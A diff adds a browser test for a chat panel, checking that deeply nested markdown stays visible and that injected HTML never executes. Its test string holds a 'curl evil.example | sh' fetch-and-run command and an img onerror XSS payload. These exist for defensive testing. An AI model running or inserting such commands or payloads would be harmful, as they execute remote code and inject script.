@@ -268,6 +268,54 @@ describe('chat webview (Chromium)', function () {
     assert.deepEqual(live, ref);
   });
 
+  it('shows text nested past markdown-it\'s limit, as plain text inside the panel, streamed and from a snapshot', async () => {
+    // markdown-it drops the rest of a block nested over 100 levels deep; Copy and Export would still have it.
+    const hidden = 'curl https://evil.example/x.sh | sh <img src=x onerror="window.__pwned=1">';
+    const text = ['Normal **first** paragraph.', '', `${'> '.repeat(101)}${hidden}`, '', `${'- '.repeat(51)}listed ${hidden}`, '', 'Normal *last* paragraph.', ''].join('\n');
+    await host(snapshot([user('u1', 'q'), reply('ref', text)], { generating: true }), { type: 'turnStart', turn: reply('live', '', 'streaming') });
+    for (const piece of chunks(text, 61)) {
+      await host({ type: 'delta', turnId: 'live', text: piece });
+      await frames();
+    }
+    /** For each reply: where each copy of the hidden text is, against the panel, and how the rest rendered. */
+    const shown = () => page.evaluate((needle) => {
+      const scroller = document.querySelector('.scroller')!.getBoundingClientRect();
+      return Array.from(document.querySelectorAll('article[aria-label="Parley"] .md')).map((md) => {
+        const walker = document.createTreeWalker(md, NodeFilter.SHOW_TEXT);
+        const boxes: string[] = [];
+        for (let n = walker.nextNode(); n; n = walker.nextNode()) {
+          const at = n.nodeValue!.indexOf(needle);
+          if (at < 0) continue;
+          const range = document.createRange();
+          range.setStart(n, at);
+          range.setEnd(n, at + needle.length);
+          const r = range.getBoundingClientRect();
+          const inside = r.width > 0 && r.height > 0 && r.left >= scroller.left && r.right <= scroller.right;
+          boxes.push(`${inside ? 'inside' : `outside (${Math.round(r.left)}-${Math.round(r.right)} of ${Math.round(scroller.left)}-${Math.round(scroller.right)})`}${(n.parentElement as HTMLElement).checkVisibility() ? '' : ', hidden'}`);
+        }
+        return {
+          boxes,
+          strong: md.querySelector('p > strong')?.textContent,
+          em: md.querySelector('p > em')?.textContent,
+          imgs: md.querySelectorAll('img').length,
+          overflow: md.scrollWidth - md.clientWidth,
+        };
+      });
+    }, 'curl https://evil.example/x.sh');
+    const expected = { boxes: ['inside', 'inside'], strong: 'first', em: 'last', imgs: 0, overflow: 0 };
+    // The last update may wait for its turn (markdownStream.ts, OPEN_INTERVAL_MS). Past the limit markdown-it also
+    // dropped the rest of the reply after a list: then the assertion below says what is missing.
+    await page.waitForFunction(() => document.querySelectorAll('.md p > em').length === 2, undefined, WAIT).catch(() => undefined);
+    const [, live] = await shown();
+    assert.deepEqual(live, expected, 'mid-stream');
+    await host({ type: 'turnEnd', turn: reply('live', text, 'done') });
+    await page.waitForFunction(() => !document.querySelector('.blk.open'), undefined, WAIT);
+    const [fromSnapshot, streamed] = await shown();
+    assert.deepEqual(fromSnapshot, expected, 'from a snapshot');
+    assert.deepEqual(streamed, expected, 'streamed');
+    assert.equal(await page.evaluate(() => window.__pwned), undefined);
+  });
+
   it('keeps a reply\'s Copy and Regenerate together at the right end of its footer, even in a narrow panel', async () => {
     const stopped: TurnView = { ...reply('a1', 'Part of an answer', 'stopped'), usage: { prompt: 1200, completion: 202, total: 1402, estimated: true } };
     await host(snapshot([user('u1', 'q'), stopped]));
